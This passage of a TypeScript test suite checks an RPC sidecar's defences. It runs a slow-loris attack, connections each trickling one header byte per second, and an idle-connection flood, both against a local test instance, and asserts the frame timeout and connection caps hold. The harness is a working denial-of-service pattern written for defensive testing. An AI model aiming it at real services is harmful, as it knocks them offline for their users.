    const FRAME_TIMEOUT_MS = 2000;
    const MAX_PARTIAL = 32;
    const ATTACKERS = scale(200, 1000);

    it('a caller trickling headers on many connections holds at most the cap, each for at most the frame timeout; a good caller keeps its latency', async () => {
      const provider = await startEchoProvider(0);
      providers.push(provider);
      const sidecar = await startSidecarChild(
        { 'com.example.Echo:1.0': [`bolt://127.0.0.1:${provider.port}?interface=com.example.Echo&version=1.0`] },
        `router: { frameTimeoutMs: ${FRAME_TIMEOUT_MS}, maxPartialFrames: ${MAX_PARTIAL} }`,
      );
      sidecars.push(sidecar);
      const good = await RpcClient.connect(sidecar.ports.outbound);
      let id = 1;
      /** `n` calls at `rate` a second; their latencies. */
      const paced = async (n: number, rate: number) => {
        const latencies: number[] = [];
        let failures = 0;
        const pending: Promise<void>[] = [];
        for (let i = 0; i < n; i++) {
          const callId = id++;
          pending.push(
            good.call(callId, boltRequest(callId, 'com.example.Echo:1.0', Buffer.from('ping'))).then((a) => {
              if (a.header.status === BoltStatus.SUCCESS) latencies.push(a.latencyMs);
              else failures++;
            }),
          );
          await sleep(1000 / rate);
        }
        await Promise.all(pending);
        return { latencies, failures };
      };
      await paced(50, 200); // warm
      const baseline = await paced(300, 100);
      const baselineP99 = percentile(baseline.latencies, 99);

      // The attack: ATTACKERS connections, each sending one byte of a Bolt request header per second.
      const header = boltRequest(9, 'com.example.Echo:1.0', Buffer.from('slow'));
      const slow: { socket: net.Socket; sent: number; openedAt: number; closedAt?: number }[] = [];
      for (let i = 0; i < ATTACKERS; i++) {
        const socket = net.connect(sidecar.ports.outbound, '127.0.0.1');
        socket.on('error', () => {});
        const entry: (typeof slow)[number] = { socket, sent: 0, openedAt: performance.now() };
        socket.on('close', () => (entry.closedAt = performance.now()));
        slow.push(entry);
      }
      const trickle = setInterval(() => {
        for (const s of slow) {
          if (s.closedAt === undefined && s.socket.writable && s.sent < header.length)
            s.socket.write(header.subarray(s.sent, ++s.sent));
        }
      }, 1000);
      let maxPartial = 0;
      let sampling = true;
      const sampler = (async () => {
        while (sampling) {
          maxPartial = Math.max(maxPartial, (await sidecar.routes()).partialFrames);
          await sleep(50);
        }
      })();
      try {
        await sleep(1200); // every attacker has sent its first byte
        const underAttack = await paced(scale(500, 2000), 100);
        await sleep(FRAME_TIMEOUT_MS + 1500);
        sampling = false;
        await sampler;
        const stillOpen = slow.filter((s) => s.closedAt === undefined).length;
        const held = slow.filter((s) => s.closedAt !== undefined).map((s) => s.closedAt! - s.openedAt);
        const stats = await sidecar.stats();
        const timedOut = counterValue(stats, 'meshport_bad_frames_total', { code: 'frame-timeout' });
        const evicted = counterValue(stats, 'meshport_bad_frames_total', { code: 'partial-frames-cap' });
        const attackP99 = percentile(underAttack.latencies, 99);
        const attackMax = Math.max(...underAttack.latencies);

        assert.equal(baseline.failures + underAttack.failures, 0, 'every good call succeeds');
        assert.ok(maxPartial <= MAX_PARTIAL, `at most ${MAX_PARTIAL} unfinished frames held, saw ${maxPartial}`);
        assert.equal(stillOpen, 0, `every slow connection closed (${stillOpen} open)`);
        assert.ok(
          Math.max(...held) < 1000 + FRAME_TIMEOUT_MS + 1500,
          `longest held ${Math.max(...held).toFixed(0)} ms`,
        );
        assert.equal(timedOut + evicted, ATTACKERS, `closed by timeout ${timedOut} + cap ${evicted}`);
        // Keeping its latency, as behaviour: no good call waited for the attackers to be swept out (a frame timeout). How
        // close its p99 stays to the baseline is a figure for docs/reliability.md: on a shared 2-core machine a p99
        // bound in milliseconds fails on the neighbours' noise, or passes because it had to be loose.
        assert.ok(
          attackMax < FRAME_TIMEOUT_MS,
          `a good call under attack took ${attackMax.toFixed(0)} ms, as long as the frame timeout (baseline p99 ${baselineP99.toFixed(2)} ms)`,
        );
        figures.push(
          { name: 'slow-loris connections opened', value: ATTACKERS },
          {
            name: 'unfinished frames held at once (max)',
            value: maxPartial,
            goal: `<= ${MAX_PARTIAL} (router.maxPartialFrames)`,
            met: true,
          },
          { name: 'slow connections closed by the cap / by the frame timeout', value: `${evicted} / ${timedOut}` },
          {
            name: 'longest a slow connection was held (ms)',
            value: Math.round(Math.max(...held)),
            goal: `<= frameTimeoutMs ${FRAME_TIMEOUT_MS} + sweep`,
            met: true,
          },
          { name: 'good-client p99, baseline (ms)', value: Math.round(baselineP99 * 100) / 100 },
          { name: 'good-client p99 under attack (ms)', value: Math.round(attackP99 * 100) / 100 },
          {
            name: 'good-client slowest call under attack (ms)',
            value: Math.round(attackMax * 100) / 100,
            goal: `< frameTimeoutMs ${FRAME_TIMEOUT_MS}`,
            met: true,
          },
          { name: 'good calls failed under attack', value: underAttack.failures, goal: '0', met: true },
        );
        notes.push(
          `Slow-loris: ${ATTACKERS} connections each sending one byte of a Bolt request header per second, against router.frameTimeoutMs ${FRAME_TIMEOUT_MS} and router.maxPartialFrames ${MAX_PARTIAL}; the good client calls at 100/s on its own connection throughout.`,
        );
      } finally {
        sampling = false;
        clearInterval(trickle);
        for (const s of slow) s.socket.destroy();
        good.close();
      }
    });

    it('a host opening connections that send nothing holds at most maxConnectionsPerSource; another host connects and calls as before', async () => {
      const PER_SOURCE = 64;
      const IDLE = scale(400, 4000);
      const provider = await startEchoProvider(0);
      providers.push(provider);
      const sidecar = await startSidecarChild(
        { 'com.example.Echo:1.0': [`bolt://127.0.0.1:${provider.port}?interface=com.example.Echo&version=1.0`] },
        `router: { maxConnectionsPerSource: ${PER_SOURCE} }`,
      );
      sidecars.push(sidecar);
      const idle: { socket: net.Socket; bytes: number; closed: boolean }[] = [];
      try {
        // The flood, from 127.0.0.1: connections that never send a byte (no frame, so no frame timeout applies).
        for (let i = 0; i < IDLE; i++) {
          const socket = net.connect(sidecar.ports.outbound, '127.0.0.1');
          socket.on('error', () => {});
          const entry = { socket, bytes: 0, closed: false };
          socket.on('data', (d: Buffer) => (entry.bytes += d.length));
          socket.on('close', () => (entry.closed = true));
          idle.push(entry);
        }
        await sleep(1500);
        const open = idle.filter((e) => !e.closed).length;
        const bytes = idle.reduce((n, e) => n + e.bytes, 0);
        const refused = counterValue(await sidecar.stats(), 'meshport_connections_refused_total', {
          reason: 'per-source-cap',
        });

        // Another host (127.0.0.2) connects and calls while the flood holds its share.
        const other = await RpcClient.connect(sidecar.ports.outbound, '127.0.0.1', '127.0.0.2');
        const answers: number[] = [];
        for (let i = 1; i <= 50; i++)
          answers.push(
            (await other.call(i, boltRequest(i, 'com.example.Echo:1.0', Buffer.from('hi')))).header.status ?? -1,
          );
        other.close();

        assert.equal(open, PER_SOURCE, `connections from the flooding host still open: ${open}`);
        assert.equal(refused, IDLE - PER_SOURCE);
        assert.equal(bytes, 0, 'refused connections are closed without a byte');
        assert.deepEqual([...new Set(answers)], [BoltStatus.SUCCESS]);
        figures.push(
          { name: 'idle connections opened by one host', value: IDLE },
          { name: 'held open for it', value: open, goal: `${PER_SOURCE} (router.maxConnectionsPerSource)`, met: true },
          {
            name: 'closed at accept (meshport_connections_refused_total)',
            value: refused,
            goal: `${IDLE - PER_SOURCE}`,
            met: true,
          },
          {
            name: 'calls from another host during the flood, ok',
            value: `${answers.length}/50`,
            goal: 'all',
            met: true,
          },
        );
        notes.push(
          `Idle flood: ${IDLE} connections from 127.0.0.1 that send nothing, against router.maxConnectionsPerSource ${PER_SOURCE}; a second loopback host (127.0.0.2) then makes 50 calls.`,
        );
      } finally {
        for (const e of idle) e.socket.destroy();
      }
    });
  });
});
